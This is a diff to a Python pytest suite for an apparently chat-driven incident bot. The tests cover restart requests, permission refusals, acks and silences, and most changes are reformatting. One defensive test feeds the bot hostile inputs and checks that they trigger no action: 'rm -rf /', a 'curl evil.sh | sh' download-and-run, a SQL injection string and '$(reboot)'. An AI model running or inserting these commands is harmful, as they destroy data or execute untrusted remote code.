@@ -4,7 +4,7 @@
 from __future__ import annotations
 
 import json
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import pytest
 import sqlalchemy as sa
@@ -59,12 +59,17 @@ def ask(pipeline, sink, text, user, tag):
 
 def audit_kinds(engine):
     with engine.connect() as conn:
-        return [json.loads(body) for body in conn.execute(sa.select(audit_log.c.body).order_by(audit_log.c.seq))
-                .scalars()]
+        return [
+            json.loads(body)
+            for body in conn.execute(
+                sa.select(audit_log.c.body).order_by(audit_log.c.seq)
+            ).scalars()
+        ]
 
 
 def test_restart_it_after_status_of_checkout_publishes_one_remediation_request_and_answers(
-        pipeline, sink, store, redis_url):
+    pipeline, sink, store, redis_url
+):
     status = ask(pipeline, sink, "status of checkout", OPERATOR, "status")
     assert status["response_type"] == "in_channel"
     assert status["blocks"][0]["text"]["text"] == "Status of checkout"
@@ -75,8 +80,12 @@ def test_restart_it_after_status_of_checkout_publishes_one_remediation_request_a
     [(task, event)] = queued_events(redis_url, "remediation")
     assert task == "remediation.request"
     data = event["data"]
-    assert (data["service"], data["action"], data["requested_by"], data["source"]) == \
-        ("checkout", "restart", OPERATOR, "chat")
+    assert (data["service"], data["action"], data["requested_by"], data["source"]) == (
+        "checkout",
+        "restart",
+        OPERATOR,
+        "chat",
+    )
     assert data["instance"] is None and data["capacity"] is None
     requested = [row for row in audit_kinds(store) if row["kind"] == "chat.remediation_requested"]
     assert len(requested) == 1, audit_kinds(store)
@@ -84,7 +93,9 @@ def test_restart_it_after_status_of_checkout_publishes_one_remediation_request_a
     assert requested[0]["data"]["request"]["request_id"] == data["request_id"]
 
 
-def test_a_viewer_asking_for_a_restart_is_refused_politely_and_audited(pipeline, sink, store, redis_url):
+def test_a_viewer_asking_for_a_restart_is_refused_politely_and_audited(
+    pipeline, sink, store, redis_url
+):
     answer = ask(pipeline, sink, "restart checkout", VIEWER, "refused")
 
     assert answer["response_type"] == "ephemeral"
@@ -96,9 +107,18 @@ def test_a_viewer_asking_for_a_restart_is_refused_politely_and_audited(pipeline,
     assert refusal["data"]["needed_role"] == "operator"
 
 
-@pytest.mark.parametrize("text", ["restart billing; rm -rf /", "restart `curl evil.sh | sh`",
-                                  "show incident ' OR 1=1 --", "approve $(reboot)"])
-def test_injection_looking_text_produces_no_action_and_no_unsafe_value(pipeline, sink, store, redis_url, text):
+@pytest.mark.parametrize(
+    "text",
+    [
+        "restart billing; rm -rf /",
+        "restart `curl evil.sh | sh`",
+        "show incident ' OR 1=1 --",
+        "approve $(reboot)",
+    ],
+)
+def test_injection_looking_text_produces_no_action_and_no_unsafe_value(
+    pipeline, sink, store, redis_url, text
+):
     answer = ask(pipeline, sink, text, APPROVER, "injection")
 
     assert queued_events(redis_url, "remediation") == []
@@ -110,32 +130,51 @@ def test_injection_looking_text_produces_no_action_and_no_unsafe_value(pipeline,
 
 
 def test_ack_and_silence_change_state_and_correlation_honours_the_silence(pipeline, sink, store):
-    now = datetime.now(timezone.utc)
+    now = datetime.now(UTC)
     recorder = AlertStore(store, CorrelationPolicy())
-    first = AlertBatch.from_data(webhook_data(alert("HighCPU", "checkout", "i-0a1b2c3d4e5f60001", status="firing",
-                                                    starts_at=now - timedelta(minutes=5))))
+    first = AlertBatch.from_data(
+        webhook_data(
+            alert(
+                "HighCPU",
+                "checkout",
+                "i-0a1b2c3d4e5f60001",
+                status="firing",
+                starts_at=now - timedelta(minutes=5),
+            )
+        )
+    )
     [incident_id] = recorder.record_batch(first, trace_id="t1", now=now).opened
 
     acked = ask(pipeline, sink, f"ack {incident_id}", OPERATOR, "ack")
     silenced = ask(pipeline, sink, "silence HighLatency on payments for 2h", OPERATOR, "silence")
 
     assert f"Incident #{incident_id} acknowledged by chat:{OPERATOR}" in acked["text"]
-    assert "Silenced HighLatency on payments until" in silenced["text"] and "(2h)" in silenced["text"]
+    assert (
+        "Silenced HighLatency on payments until" in silenced["text"] and "(2h)" in silenced["text"]
+    )
     with store.connect() as conn:
-        acknowledged = conn.execute(sa.text("SELECT acknowledged_by FROM incidents WHERE id = :i"),
-                                    {"i": incident_id}).scalar_one()
+        acknowledged = conn.execute(
+            sa.text("SELECT acknowledged_by FROM incidents WHERE id = :i"), {"i": incident_id}
+        ).scalar_one()
         silence = conn.execute(sa.select(silences)).one()
     assert acknowledged == f"chat:{OPERATOR}"
     assert (silence.alertname, silence.service) == ("HighLatency", "payments")
-    assert timedelta(hours=1, minutes=59) < silence.ends_at - silence.starts_at <= timedelta(hours=2)
+    assert (
+        timedelta(hours=1, minutes=59) < silence.ends_at - silence.starts_at <= timedelta(hours=2)
+    )
 
-    muted = AlertBatch.from_data(webhook_data(alert("HighLatency", "payments", "i-0b1b2c3d4e5f60011",
-                                                    status="firing", starts_at=now)))
-    outcome = recorder.record_batch(muted, trace_id="t2", now=datetime.now(timezone.utc))
+    muted = AlertBatch.from_data(
+        webhook_data(
+            alert("HighLatency", "payments", "i-0b1b2c3d4e5f60011", status="firing", starts_at=now)
+        )
+    )
+    outcome = recorder.record_batch(muted, trace_id="t2", now=datetime.now(UTC))
 
     assert outcome.opened == ()
     with store.connect() as conn:
-        flagged = conn.execute(sa.select(silenced_alerts.c.alertname, silenced_alerts.c.silenced)).all()
+        flagged = conn.execute(
+            sa.select(silenced_alerts.c.alertname, silenced_alerts.c.silenced)
+        ).all()
         assert conn.execute(sa.select(sa.func.count()).select_from(chat_commands)).scalar_one() == 2
     assert [tuple(row) for row in flagged] == [("HighLatency", True)]
     assert [row["kind"] for row in audit_kinds(store)][-1] == "alert.silenced"
